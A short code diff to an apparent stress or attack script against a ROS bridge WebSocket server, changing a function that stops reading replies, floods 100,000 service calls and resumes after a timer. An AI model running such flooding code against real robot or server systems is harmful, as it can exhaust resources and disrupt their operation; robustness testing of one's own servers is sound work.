@@ -79,7 +79,8 @@ def empty_fragments(client: ClientConnection) -> None:
 
 
 def unread_answers(client: ClientConnection) -> None:
-    client.recv_messages.pause()  # stop reading
+    client.recv_messages.pause()  # stop reading, until the end, for which the client waits
+    threading.Timer(ATTACK_S, client.recv_messages.resume).start()
     for number in range(100_000):
         client.send(json.dumps({"op": "call_service", "service": "/rosapi/topics", "id": number}))
 
